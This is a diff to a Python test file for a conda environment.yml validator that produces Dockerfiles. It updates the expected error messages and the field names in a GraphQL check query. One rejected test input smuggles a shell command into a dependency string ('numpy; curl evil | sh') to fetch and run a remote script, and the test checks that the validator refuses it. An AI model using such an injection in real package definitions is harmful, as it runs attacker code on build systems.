@@ -74,8 +74,8 @@ def test_the_base_has_conda_and_nothing_is_said_twice():
 
 
 REFUSED = {
-    "numpy=2.1": "is an object with a list of dependencies",
-    "dependencies: numpy": "is an object with a list of dependencies",
+    "numpy=2.1": "must be an object with a list of dependencies",
+    "dependencies: numpy": "must be an object with a list of dependencies",
     "dependencies: [numpy]\nplatforms: [linux-64]": "'platforms' is not known here",
     'dependencies: ["numpy; curl evil | sh"]': "dependencies[0]",
     "dependencies: [numpy, {npm: [left-pad]}]": "dependencies[1]",
@@ -87,7 +87,7 @@ REFUSED = {
     "dependencies: [{pip: [./here]}]": "local path",
     "dependencies: [{pip: [5]}]": "is not a requirement",
     "dependencies: [a]\nchannels: ['file:///root']": "conda channel",
-    "dependencies: [a]\nchannels: conda-forge": "channels is a list",
+    "dependencies: [a]\nchannels: conda-forge": "channels must be a list",
     "dependencies: [a]\nvariables: {A: [1]}": "variable A",
     "dependencies: [a]\ndependencies: [b]": "dependencies",
     "dependencies: [": "Line 1",
@@ -134,15 +134,15 @@ def test_anything_is_read_or_refused(told):
 
 
 async def test_the_check_shows_what_it_comes_to(platform):
-    ask = "query($d: JSON!) { checkImage(definition: $d) { dockerfile plain faults { field message } } }"
+    ask = "query($d: JSON!) { checkImage(definition: $d) { dockerfile pythonOnly faults { path message } } }"
     good = (await platform.ask(ask, d={"environment_yml": WHOLE}))["checkImage"]
     assert (
         good["dockerfile"].startswith(f"FROM {spec.CONDA_BASE}\n")
-        and not good["plain"]
+        and not good["pythonOnly"]
         and good["faults"] == []
     )
     (fault,) = (await platform.ask(ask, d={"environment_yml": "dependencies: [-x]"}))["checkImage"]["faults"]
-    assert fault["field"] == "environment_yml" and "'-x'" in fault["message"]
+    assert fault["path"] == ["environment_yml"] and "'-x'" in fault["message"]
 
 
 @pytest.mark.parametrize(
